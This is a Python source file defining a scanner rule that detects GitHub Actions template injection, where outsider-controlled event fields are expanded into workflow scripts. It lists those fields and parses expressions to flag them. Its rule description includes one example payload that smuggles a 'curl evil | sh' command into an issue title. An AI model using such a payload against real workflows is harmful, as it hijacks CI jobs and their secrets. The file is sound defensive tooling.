"""GHA-TEMPLATE-INJECTION: attacker-controlled `${{ … }}` expanded straight into a script."""

from __future__ import annotations

import re
from collections.abc import Iterator

from secloop.core.enums import Confidence, Severity, Stage
from secloop.core.model import Finding
from secloop.core.rules import Rule
from secloop.pipeline.audits.interface import AuditBase
from secloop.pipeline.workflow import Job, Scalar, Step, Workflow, lookup

RULE = Rule(
    id="GHA-TEMPLATE-INJECTION",
    title="Attacker-controlled expression expanded inside a script",
    stage=Stage.PIPELINE,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    description=(
        "`${{ … }}` is substituted into the script text before the shell (or github-script) runs it. "
        "An issue title, a pull request body, a branch name or a commit message is chosen by whoever "
        "opens it, so a value such as `\"; curl evil | sh; #` becomes code running with the job's "
        "token and secrets."
    ),
    fix=(
        "Pass the value through an environment variable and quote it in the script: "
        '`env: TITLE: ${{ github.event.issue.title }}` then `run: echo "$TITLE"`.'
    ),
    cwe=(78, 94),
    cicd_sec=(4,),
)

# Fields of the event payload that outsiders write. `inputs.*` of workflow_dispatch is left out on
# purpose: only people with write access can dispatch a workflow.
ATTACKER_CONTROLLED: tuple[tuple[str, ...], ...] = tuple(
    tuple(p.split("."))
    for p in (
        "github.head_ref",
        "github.event.issue.title",
        "github.event.issue.body",
        "github.event.pull_request.title",
        "github.event.pull_request.body",
        "github.event.pull_request.head.ref",
        "github.event.pull_request.head.label",
        "github.event.pull_request.head.repo.default_branch",
        "github.event.comment.body",
        "github.event.review.body",
        "github.event.review_comment.body",
        "github.event.discussion.title",
        "github.event.discussion.body",
        "github.event.pages.*.page_name",
        "github.event.head_commit.message",
        "github.event.head_commit.author.email",
        "github.event.head_commit.author.name",
        "github.event.commits.*.message",
        "github.event.commits.*.author.email",
        "github.event.commits.*.author.name",
        "github.event.workflow_run.head_branch",
        "github.event.workflow_run.display_title",
        "github.event.workflow_run.head_commit.message",
        "github.event.workflow_run.head_commit.author.email",
        "github.event.workflow_run.head_commit.author.name",
        "github.event.workflow_run.pull_requests.*.head.ref",
    )
)

_QUOTED_INDEX = re.compile(r"\[\s*'([A-Za-z_][\w-]*)'\s*\]")
_ANY_INDEX = re.compile(r"\[[^\]]*\]")
_STRING = re.compile(r"'(?:[^']|'')*'")
_REFERENCE = re.compile(r"(?<![\w.-])(?>[A-Za-z_][\w-]*(?:\.[\w*-]+)*)(?!\s*\()")


def references(expression: str) -> list[str]:
    """Context paths an expression reads, normalised: lower case, `[0]` and `['x']` as `.*` and `.x`."""
    text = _QUOTED_INDEX.sub(r".\1", expression)
    text = _ANY_INDEX.sub(".*", text)
    text = _STRING.sub(" ", text)
    return [m.group(0).lower() for m in _REFERENCE.finditer(text)]


def _matches(ref: tuple[str, ...], pattern: tuple[str, ...]) -> bool:
    return len(ref) == len(pattern) and all(
        r == p or "*" in (r, p) for r, p in zip(ref, pattern, strict=True)
    )


def _ancestor(ref: tuple[str, ...], pattern: tuple[str, ...]) -> bool:
    return len(ref) < len(pattern) and _matches(ref, pattern[: len(ref)])


def classify(expression: str) -> list[tuple[str, Confidence]]:
    """Attacker-controlled references in the expression, with how sure we are."""
    found: list[tuple[str, Confidence]] = []
    serialises = "tojson(" in expression.lower().replace(" ", "")
    for ref in references(expression):
        parts = tuple(ref.split("."))
        if any(_matches(parts, p) for p in ATTACKER_CONTROLLED):
            found.append((ref, Confidence.HIGH))
        elif serialises and any(_ancestor(parts, p) for p in ATTACKER_CONTROLLED):
            found.append((ref, Confidence.MEDIUM))
    return found


class TemplateInjection(AuditBase):
    rule = RULE

    def audit_step(self, workflow: Workflow, job: Job, step: Step) -> Iterator[Finding]:
        if step.run is not None:
            yield from self._scan(workflow, job, step, step.run, "run")
        if step.uses_action("actions/github-script"):
            script = lookup(step.with_, "script")
            if script is not None and script.value is not None:
                yield from self._scan(workflow, job, step, script.value, "github-script")

    def _scan(
        self, workflow: Workflow, job: Job, step: Step, script: Scalar, where: str
    ) -> Iterator[Finding]:
        seen: dict[str, int] = {}
        for expression in script.expressions():
            for ref, confidence in classify(expression.text):
                occurrence = seen.get(ref, 0)
                seen[ref] = occurrence + 1
                key = (where, ref) if occurrence == 0 else (where, ref, str(occurrence))
                yield self.finding(
                    workflow,
                    f"`${{{{ {expression.text} }}}}` expands {ref}, which an outsider controls, "
                    f"inside the {where} script of step {step.key!r}",
                    expression.location,
                    job=job,
                    step=step,
                    key=key,
                    confidence=confidence,
                    properties=(("expression", ref),),
                )
